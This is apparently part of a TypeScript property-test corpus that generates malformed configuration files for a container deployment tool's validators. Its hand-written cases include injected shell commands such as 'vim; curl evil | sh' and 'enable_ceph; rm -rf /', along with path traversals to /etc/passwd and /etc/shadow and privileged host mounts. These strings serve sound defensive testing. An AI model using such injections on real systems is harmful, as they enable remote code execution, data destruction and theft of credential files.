const OVERRIDE_PATHS = ['config/global.conf', 'config/keystone.conf', 'config/keystone/keystone.conf', 'config/keystone/keystone/keystone.conf', 'config/keystone/localhost/keystone.conf'];

/** A line an INI override file cannot hold inside a section: no `=` or `:` after a key, a broken header, a control character. */
const badIniLine: fc.Arbitrary<string> = fc.oneof(
  fc.string({ minLength: 1, maxLength: 30 }).filter((s) => !/[=:\n\r]/.test(s) && !/^\s/.test(s) && !/^[#;]/.test(s.trim()) && s.trim() !== '' && !/^\[[^\]]+\]$/.test(s.trim())),
  fc.constantFrom('= value', ': value', '[DEFAULT', '[]', '[ ]', '[DEFAULT]x', 'debug true'),
  fc.tuple(fc.constantFrom('debug = ', 'transport_url = rabbit://', 'x'), fc.integer({ min: 0, max: 31 }).filter((c) => c !== 9 && c !== 10 && c !== 13)).map(([head, code]) => `${head}${String.fromCharCode(code)}y`),
);

const overrideArbitraries: fc.Arbitrary<BadInput>[] = [
  fc
    .record({ path: fc.constantFrom(...OVERRIDE_PATHS), prefix: fc.array(fc.constantFrom('debug = true', '# comment', '', 'log_dir = /var/log/kolla'), { maxLength: 3 }), bad: badIniLine })
    .map(({ path, prefix, bad }): BadInput => {
      const lines = ['[DEFAULT]', ...prefix, bad];
      return { name: `${path}: ${JSON.stringify(bad)}`, target: 'config-override', files: { [path]: `${lines.join('\n')}\n` }, expect: { file: path, line: lines.length } };
    }),
  fc
    .record({ path: fc.constantFrom(...OVERRIDE_PATHS), prefix: fc.array(fc.constantFrom('# comment', '', '; note'), { maxLength: 3 }), key: fc.stringMatching(/^[a-z_]{1,12}$/) })
    .map(({ path, prefix, key }): BadInput => {
      const lines = [...prefix, `${key} = 1`];
      return { name: `${path}: ${key} before any section`, target: 'config-override', files: { [path]: `${lines.join('\n')}\n` }, expect: { file: path, line: lines.length } };
    }),
];

const HAND_WRITTEN_OVERRIDES: BadInput[] = OVERRIDE_PATHS.map((path) => ({
  name: `${path}: a directory where the file should be`,
  target: 'config-override' as const,
  files: { [`${path}/oops.conf`]: '[DEFAULT]\n' },
  expect: { file: path },
}));

// --- --template-override --------------------------------------------------

const IMAGE = fc.constantFrom(...IMAGE_NAMES);
const overrideFile = (name: string, lines: string[], expect: Omit<BadInput['expect'], 'file'>): BadInput => ({
  name: `override.yml: ${name}`,
  target: 'template-override',
  files: { 'override.yml': `${lines.join('\n')}\n` },
  expect: { file: 'override.yml', ...expect },
});

const templateOverrideArbitraries: fc.Arbitrary<BadInput>[] = [
  fc
    .stringMatching(/^[a-z][a-z0-9-]{0,20}$/)
    .filter((name) => !IMAGE_NAMES.includes(name))
    .map((name) => overrideFile(`unknown image ${name}`, [`${name}:`, '  blocks:', '    footer: "LABEL x=y"'], { line: 1, key: name })),
  fc
    .record({ image: IMAGE, value: fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.array(fc.integer(), { maxLength: 2 }), fc.constant(null)) })
    .map(({ image, value }) => overrideFile(`${image} is ${yamlValue(value)}`, [`${image}: ${yamlValue(value)}`], { line: 1, key: image })),
  fc
    .record({ image: IMAGE, key: fc.stringMatching(/^[a-z_]{1,12}$/).filter((k) => k !== 'blocks' && k !== 'packages') })
    .map(({ image, key }) => overrideFile(`${image}.${key} unknown`, [`${image}:`, `  ${key}: {}`], { line: 2, key: `${image}.${key}` })),
  fc
    .record({ image: IMAGE, block: fc.stringMatching(/^[a-z_]{1,12}$/), value: fc.oneof(fc.integer(), fc.boolean(), nonScalar) })
    .map(({ image, block, value }) => overrideFile(`${image} block ${block} not text`, [`${image}:`, '  blocks:', `    ${block}: ${yamlValue(value)}`], { line: 3, key: `${image}.blocks.${block}` })),
  fc
    .record({ image: IMAGE, op: fc.constantFrom('add', 'remove'), name: hostileText.filter((p) => !/^[a-z0-9][a-z0-9+.:=~-]*$/.test(p)) })
    .map(({ image, op, name }) =>
      overrideFile(`${image} packages.${op} ${JSON.stringify(name)}`, [`${image}:`, '  packages:', `    ${op}: [vim-tiny, ${yamlValue(name)}]`], { line: 3, key: `${image}.packages.${op}` }),
    ),
  fc
    .record({ image: IMAGE, op: fc.stringMatching(/^[a-z_]{1,10}$/).filter((o) => o !== 'add' && o !== 'remove') })
    .map(({ image, op }) => overrideFile(`${image} packages.${op} unknown`, [`${image}:`, '  packages:', `    ${op}: [vim]`], { line: 3, key: `${image}.packages.${op}` })),
  // A block the image's Dockerfile does not have: found when the image is rendered.
  fc
    .record({ image: IMAGE, block: fc.stringMatching(/^[a-z_]{1,12}$/), prefix: yamlPrefix })
    .map(({ image, block, prefix }) =>
      overrideFile(`${image} block no_such_${block}`, [...prefix, `${image}:`, '  blocks:', `    no_such_${block}: "RUN true"`], { line: prefix.length + 3 }),
    ),
];

const HAND_WRITTEN_TEMPLATE_OVERRIDES: BadInput[] = [
  overrideFile('a list', ['- keystone'], {}),
  overrideFile('blocks a list', ['keystone:', '  blocks: [header]'], { line: 2, key: 'keystone.blocks' }),
  overrideFile('packages a list', ['keystone:', '  packages: [vim]'], { line: 2, key: 'keystone.packages' }),
  overrideFile('packages.add a string', ['keystone:', '  packages:', '    add: vim'], { line: 3, key: 'keystone.packages.add' }),
  overrideFile('a hostile package name', ['keystone:', '  packages:', '    add: ["vim; curl evil | sh"]'], { line: 3, key: 'keystone.packages.add' }),
  overrideFile('a block named __proto__', ['keystone:', '  blocks:', '    __proto__: "RUN true"'], { line: 3 }),
  overrideFile('a block named constructor', ['keystone:', '  blocks:', '    constructor: "RUN true"'], { line: 3 }),
  overrideFile('bad YAML', ['keystone:', '  blocks: {header: "RUN true"'], {}),
  overrideFile('a duplicated image', ['keystone: {}', 'keystone: {}'], { line: 2 }),
];

// --- roles/<service>/role.yml ---------------------------------------------

/** A valid role, as lines, for mutations that replace or add one line. */
const ROLE_LINES = [
  'service: demo', // 1
  'group: control', // 2
  'requires: [mariadb]', // 3
  'passwords: [demo_database_password]', // 4
  'containers:', // 5
  '  demo_api:', // 6
  '    image: demo-api', // 7
  '    volumes: ["kolla_logs:/var/log/kolla/"]', // 8
  '    config:', // 9
  '      - template: demo/demo.conf.hbs', // 10
  '        dest: demo.conf', // 11
  '        ini: true', // 12
  'steps:', // 13
  '  - database: {name: demo, user: demo, password: demo_database_password}', // 14
  '  - start: demo_api', // 15
];

/** Replaces line `at` (1-based) of the valid role, or inserts after it when `insert`. */
function roleCase(name: string, at: number, line: string, expect: Omit<BadInput['expect'], 'file'>, insert = false): BadInput {
  const lines = [...ROLE_LINES];
  lines.splice(insert ? at : at - 1, insert ? 0 : 1, line);
  return { name: `role.yml: ${name}`, target: 'role', files: { 'roles/demo/role.yml': `${lines.join('\n')}\n` }, expect: { file: 'roles/demo/role.yml', ...expect } };
}

/** What roles.yml accepts in each slot; a generated value must fail it to be malformed. */
const ROLE_NAME = (v: string): boolean => /^[a-z0-9][a-z0-9_-]{0,62}$/.test(v);
const ROLE_PATH = (v: string): boolean => /^[A-Za-z0-9_.-]+(\/[A-Za-z0-9_.-]+)*$/.test(v) && !v.split('/').includes('..');
const SQL_NAME = (v: string): boolean => /^[A-Za-z0-9_]{1,64}$/.test(v);
const KEY_NAME = (v: string): boolean => /^[A-Za-z_][A-Za-z0-9_]*$/.test(v);

const roleArbitraries: fc.Arbitrary<BadInput>[] = [
  // A hostile name wherever a role names something.
  fc
    .constantFrom(
      { at: 1, line: (v: string) => `service: ${v}`, key: 'service', valid: ROLE_NAME },
      { at: 2, line: (v: string) => `group: ${v}`, key: 'group', valid: isGroupName },
      { at: 3, line: (v: string) => `requires: [${v}]`, key: 'requires.0', valid: ROLE_NAME },
      { at: 4, line: (v: string) => `passwords: [${v}]`, key: 'passwords.0', valid: KEY_NAME },
      { at: 7, line: (v: string) => `    image: ${v}`, key: 'containers.demo_api.image', valid: ROLE_NAME },
      { at: 10, line: (v: string) => `      - template: ${v}`, key: 'containers.demo_api.config.0.template', valid: ROLE_PATH },
      // A dest may name variables ({{key}}), each standing for a name.
      { at: 11, line: (v: string) => `        dest: ${v}`, key: 'containers.demo_api.config.0.dest', valid: (v: string) => ROLE_PATH(v.replace(/\{\{[A-Za-z_][A-Za-z0-9_]*\}\}/g, 'x')) },
      { at: 14, line: (v: string) => `  - database: {name: ${v}, user: demo, password: demo_database_password}`, key: 'steps.0.database.name', valid: SQL_NAME },
      { at: 14, line: (v: string) => `  - database: {name: demo, user: ${v}, password: demo_database_password}`, key: 'steps.0.database.user', valid: SQL_NAME },
    )
    .chain((slot) =>
      hostileText.filter((v) => !slot.valid(v)).map((value) => roleCase(`${slot.key} = ${JSON.stringify(value)}`, slot.at, slot.line(yamlValue(value)), { line: slot.at, key: slot.key })),
    ),
  // A setting of the wrong type.
  fc
    .constantFrom(
      { at: 7, line: (v: string) => `    image: ${v}`, key: 'containers.demo_api.image', insert: false, values: ['1.5', '[1]', '{a: 1}', 'true'] },
      { at: 8, line: (v: string) => `    volumes: ${v}`, key: 'containers.demo_api.volumes', insert: false, values: ['"yes"', '1.5', '{a: 1}', 'true'] },
      { at: 12, line: (v: string) => `        ini: ${v}`, key: 'containers.demo_api.config.0.ini', insert: false, values: ['"yes"', '"true"', '1', '[1]', '{a: 1}'] },
      { at: 7, line: (v: string) => `    privileged: ${v}`, key: 'containers.demo_api.privileged', insert: true, values: ['"yes"', '"true"', '1', '[1]', '{a: 1}'] },
      { at: 7, line: (v: string) => `    environment: {A: ${v}}`, key: 'containers.demo_api.environment.A', insert: true, values: ['1.5', '[1]', '{a: 1}', 'true'] },
      { at: 2, line: (v: string) => `stage: ${v}`, key: 'stage', insert: true, values: ['"10"', '1.5', '[1]', '{a: 1}', 'true'] },
    )
    .chain((slot) =>
      fc
        .constantFrom(...slot.values)
        .map((value) => roleCase(`${slot.key}: ${value}`, slot.at, slot.line(value), { line: slot.at + (slot.insert ? 1 : 0), key: slot.key }, slot.insert)),
    ),
  // An unknown key at the top or in a container.
  fc
    .record({ key: fc.stringMatching(/^[a-z_]{2,14}$/), inContainer: fc.boolean() })
    .filter(({ key, inContainer }) =>
      inContainer
        ? !['image', 'group', 'privileged', 'network_mode', 'pid_mode', 'ipc_mode', 'cap_add', 'user', 'environment', 'volumes', 'volumes_from', 'healthcheck', 'config'].includes(key)
        : !['service', 'group', 'enable', 'requires', 'stage', 'passwords', 'containers', 'data_containers', 'steps'].includes(key),
    )
    .map(({ key, inContainer }) =>
      inContainer
        ? roleCase(`containers.demo_api.${key} unknown`, 7, `    ${key}: x`, { line: 8, key: `containers.demo_api.${key}` }, true)
        : roleCase(`${key} unknown`, 2, `${key}: x`, { line: 3, key }, true),
    ),
];

const HAND_WRITTEN_ROLES: BadInput[] = [
  roleCase('service missing', 1, '# no service', { key: 'service' }),
  roleCase('group missing', 2, '# no group', { key: 'group' }),
  roleCase('image missing', 7, '    # no image', { key: 'containers.demo_api.image' }),
  { name: 'role.yml: containers a list', target: 'role', files: { 'roles/demo/role.yml': 'service: demo\ngroup: control\ncontainers: []\n' }, expect: { file: 'roles/demo/role.yml', line: 3, key: 'containers' } },
  roleCase('a step with two kinds', 15, '  - {start: demo_api, bootstrap: {container: demo_api}}', { key: 'steps.1' }),
  roleCase('an unknown step kind', 15, '  - restart: demo_api', { line: 15, key: 'steps.1.restart' }),
  roleCase('a step naming an undeclared container', 15, '  - start: demo_web', { line: 15, key: 'steps.1.start' }),
  roleCase('an exec without command', 15, '  - exec: {container: demo_api, command: []}', { line: 15, key: 'steps.1.exec.command' }),
  roleCase('a database step without password', 14, '  - database: {name: demo, user: demo}', { line: 14, key: 'steps.0.database.password' }),
  roleCase('a dest outside the config directory', 11, '        dest: ../../etc/cron.d/x', { line: 11, key: 'containers.demo_api.config.0.dest' }),
  roleCase('an absolute dest', 11, '        dest: /etc/passwd', { line: 11, key: 'containers.demo_api.config.0.dest' }),
  roleCase('a dest whose variable climbs out', 11, '        dest: "{{x}}/../../etc/passwd"', { line: 11, key: 'containers.demo_api.config.0.dest' }),
  roleCase('a config condition that is not a key', 12, '        when: "enable_ceph; rm -rf /"', { line: 13, key: 'containers.demo_api.config.0.when' }, true),
  roleCase('an after naming no service', 3, 'after: [cepf]', { line: 4, key: 'after.0' }, true),
  roleCase('an after condition that is not a key', 3, 'after: [{service: db, when: "x; y"}]', { line: 4, key: 'after.0.when' }, true),
  roleCase('an after entry without its service', 3, 'after: [{when: enable_db}]', { line: 4, key: 'after.0.service' }, true),
  roleCase('a template outside config-templates', 10, '      - template: ../../../etc/shadow', { line: 10, key: 'containers.demo_api.config.0.template' }),
  roleCase('an absolute template', 10, '      - template: /etc/shadow', { line: 10, key: 'containers.demo_api.config.0.template' }),
  roleCase('a negative healthcheck interval', 7, '    healthcheck: {test: "true", interval: -1}', { line: 8, key: 'containers.demo_api.healthcheck.interval' }, true),
  roleCase('a healthcheck without test', 7, '    healthcheck: {interval: 5}', { line: 8, key: 'containers.demo_api.healthcheck.test' }, true),
  roleCase('a hostile container name', 6, '  "demo; reboot":', { line: 6, key: 'containers.demo; reboot' }),
  roleCase('a hostile network_mode', 7, '    network_mode: "host --privileged"', { line: 8, key: 'containers.demo_api.network_mode' }, true),
  roleCase('a hostile volume', 8, '    volumes: ["/:/host:rw --privileged"]', { line: 8, key: 'containers.demo_api.volumes.0' }),
  roleCase('a capability in lower case', 7, '    cap_add: [net_admin]', { line: 8, key: 'containers.demo_api.cap_add.0' }, true),
  roleCase('a hostile exec user', 15, '  - exec: {container: demo_api, user: "root; id", command: ["true"]}', { line: 15, key: 'steps.1.exec.user' }),
  roleCase('a hostile container user', 7, '    user: "nova -u 0"', { line: 8, key: 'containers.demo_api.user' }, true),
  roleCase('an environment name with a space', 7, '    environment: {"A B": x}', { line: 8, key: 'containers.demo_api.environment.A B' }, true),
  roleCase('bad YAML', 5, 'containers: {', {}),
  roleCase('a database step in the upgrade sequence', 15, 'upgrade: {before: [{database: {name: demo, user: demo, password: demo_database_password}}]}', { line: 16, key: 'upgrade.before.0.database' }, true),
  roleCase('a restart before the roll', 15, 'upgrade: {before: [{restart: demo_api}]}', { line: 16, key: 'upgrade.before.0.restart' }, true),
  roleCase('an upgrade phase that does not exist', 15, 'upgrade: {during: []}', { line: 16, key: 'upgrade.during' }, true),
  roleCase('a one-shot with a hostile environment name', 15, 'upgrade: {after: [{oneshot: {container: demo_api, environment: {"A;B": ""}}}]}', { line: 16, key: 'upgrade.after.0.oneshot.environment.A;B' }, true),
  roleCase('a one-shot exit code out of range', 15, 'upgrade: {after: [{oneshot: {container: demo_api, ok_exit_codes: [0, 256]}}]}', { line: 16, key: 'upgrade.after.0.oneshot.ok_exit_codes' }, true),
  roleCase('a one-shot of an undeclared container', 15, 'upgrade: {after: [{oneshot: {container: demo_web}}]}', { line: 16, key: 'upgrade.after.0.oneshot.container' }, true),
  // `needs`: what a deploy step waits for, from the role's requires only.
  roleCase('a step needing what the role does not require', 14, '  - bootstrap: {container: demo_api, needs: [keystone]}', { line: 15, key: 'steps.1.bootstrap.needs.0' }, true),
  roleCase('a needs that is not a list of names', 14, '  - exec: {container: demo_api, command: ["true"], needs: mariadb}', { line: 15, key: 'steps.1.exec.needs' }, true),
  roleCase('a needs in the upgrade sequence', 15, 'upgrade: {before: [{oneshot: {container: demo_api, needs: [mariadb]}}]}', { line: 16, key: 'upgrade.before.0.oneshot.needs' }, true),
  {
    name: 'role.yml: a step needing a service no role declares',
    target: 'role',
    files: { 'roles/demo/role.yml': `${[...ROLE_LINES.slice(0, 2), 'requires: [mariadb, mariadbb]', ...ROLE_LINES.slice(3), '  - bootstrap: {container: demo_api, needs: [mariadbb]}'].join('\n')}\n` },
    expect: { file: 'roles/demo/role.yml', line: 16, key: 'steps.2.bootstrap.needs.0' },
  },
  // Register documents, checked against what kolla_register accepts.
  roleCase('a register with an unknown list', 14, '  - register: {tenants: [service]}', { line: 15, key: 'steps.1.register.tenants' }, true),
  roleCase('a register user with a project and a domain', 14, '  - register: {users: [{name: demo, password: demo_keystone_password, project: service, domain: heat, role: admin}]}', { line: 15, key: 'steps.1.register.users.0' }, true),
  roleCase('a register user with neither project nor domain', 14, '  - register: {users: [{name: demo, password: demo_keystone_password, role: admin}]}', { line: 15, key: 'steps.1.register.users.0' }, true),
  roleCase('a register password that is a value, not a key', 14, '  - register: {users: [{name: demo, password: "hunter 2!", project: service, role: admin}]}', { line: 15, key: 'steps.1.register.users.0.password' }, true),
  roleCase('a register domain with an unknown key', 14, '  - register: {domains: [{name: heat, enabled: false}]}', { line: 15, key: 'steps.1.register.domains.0.enabled' }, true),
  roleCase('a register domain without a name', 14, '  - register: {domains: [{description: stack users}]}', { line: 15, key: 'steps.1.register.domains.0.name' }, true),
  roleCase('a register endpoint interface that does not exist', 14, '  - register: {endpoints: [{service: demo, interface: private, url: "http://x"}]}', { line: 15, key: 'steps.1.register.endpoints.0.interface' }, true),
  roleCase('a register role that is not a name', 14, '  - register: {roles: [{admin: true}]}', { line: 15, key: 'steps.1.register.roles.0' }, true),
  {
    name: 'role.yml: two roles declare one container',
    target: 'role',
    files: { 'roles/demo/role.yml': `${ROLE_LINES.join('\n')}\n`, 'roles/other/role.yml': 'service: other\ngroup: control\ncontainers:\n  demo_api: {image: other}\n' },
    expect: { file: 'roles/other/role.yml' },
  },
];

// --- image selection ------------------------------------------------------

function invalidRegex(pattern: string): boolean {
  try {
    new RegExp(pattern);
    return false;
  } catch {
    return true;
  }
}

const regexArbitraries: fc.Arbitrary<BadInput>[] = [
  fc
    .oneof(fc.string({ minLength: 1, maxLength: 12 }), fc.constantFrom('(', '[', '*', '+x', 'a{2,1}', '(?<', '\\', 'nova(', '[z-a]', '(?<n>a)\\k<m>'))
    .filter((p) => !p.startsWith('-') && (invalidRegex(p) || !IMAGE_NAMES.some((n) => new RegExp(p).test(n))))
    .map((pattern): BadInput => ({ name: `build regex ${JSON.stringify(pattern)}`, target: 'image-regex', files: {}, regexes: ['^keystone$', pattern], expect: { mentions: pattern } })),
  fc
    .record({ name: fc.stringMatching(/^[a-z]{1,8}$/), pattern: fc.constantFrom('(', '[', '*', 'a{2,1}', '\\', 'nova(') })
    .map(({ name, pattern }): BadInput => ({
      name: `profiles.yml: ${name} has ${JSON.stringify(pattern)}`,
      target: 'profile',
      files: { 'profiles.yml': `# site profiles\nprofiles:\n  mine: [^keystone$, ${yamlValue(pattern)}]\n` },
      expect: { file: 'profiles.yml', line: 3, key: 'profiles.mine.1' },
    })),
];

const HAND_WRITTEN_REGEXES: BadInput[] = ['(', ')', '[', '*', '+', '?x', 'a{2,1}', '(?<', '\\', 'nova(', '[z-a]', '(?P<x>a)', '^zzz$', '^$', 'NOVA', '\\d{5}', 'keystone-api-v9'].map(
  (pattern): BadInput => ({ name: `build regex ${JSON.stringify(pattern)}`, target: 'image-regex', files: {}, regexes: [pattern], expect: { mentions: pattern } }),
);

const HAND_WRITTEN_PROFILES: BadInput[] = [
  { name: 'profiles.yml: a profile that is a string', target: 'profile', files: { 'profiles.yml': 'profiles:\n  mine: ^keystone$\n' }, expect: { file: 'profiles.yml', line: 2, key: 'profiles.mine' } },
  { name: 'profiles.yml: no profiles key', target: 'profile', files: { 'profiles.yml': 'mine: [^keystone$]\n' }, expect: { file: 'profiles.yml', key: 'profiles' } },
  { name: 'profiles.yml: a number in a profile', target: 'profile', files: { 'profiles.yml': 'profiles:\n  mine: [1]\n' }, expect: { file: 'profiles.yml', line: 2, key: 'profiles.mine' } },
];

// --- the corpus -----------------------------------------------------------

/** One arbitrary per target, for property tests; each value is one malformed input. */
export const badInputArbitraries: Record<BadInputTarget, fc.Arbitrary<BadInput>> = {
  inventory: fc.oneof(...inventoryArbitraries),
  globals: fc.oneof(...globalsArbitraries),
  passwords: fc.oneof(...passwordsArbitraries),
  'config-override': fc.oneof(...overrideArbitraries),
  'template-override': fc.oneof(...templateOverrideArbitraries),
  role: fc.oneof(...roleArbitraries),
  'image-regex': regexArbitraries[0]!,
  profile: regexArbitraries[1]!,
};

const GENERATORS: fc.Arbitrary<BadInput>[] = [...inventoryArbitraries, ...globalsArbitraries, ...passwordsArbitraries, ...overrideArbitraries, ...templateOverrideArbitraries, ...roleArbitraries, ...regexArbitraries];

const HAND_WRITTEN: BadInput[] = [
  ...HAND_WRITTEN_INVENTORIES,
  ...HAND_WRITTEN_GLOBALS,
  ...HAND_WRITTEN_PASSWORDS,
  ...HAND_WRITTEN_OVERRIDES,
  ...HAND_WRITTEN_TEMPLATE_OVERRIDES,
  ...HAND_WRITTEN_ROLES,
  ...HAND_WRITTEN_REGEXES,
  ...HAND_WRITTEN_PROFILES,
];

/**
 * The hand-written cases plus `perGenerator` samples of every generator,
 * the same list for the same seed (so an e2e run can pick a stable sample).
 */
export function badInputs(options: { seed?: number; perGenerator?: number } = {}): BadInput[] {
  const { seed = 20240611, perGenerator = 16 } = options;
  const generated = GENERATORS.flatMap((arbitrary, index) => fc.sample(arbitrary, { seed: seed + index, numRuns: perGenerator }));
  const seen = new Set<string>();
  return [...HAND_WRITTEN, ...generated].filter((item) => {
    const identity = JSON.stringify([item.files, item.regexes]);
    if (seen.has(identity)) return false;
    seen.add(identity);
    return true;
  });
}
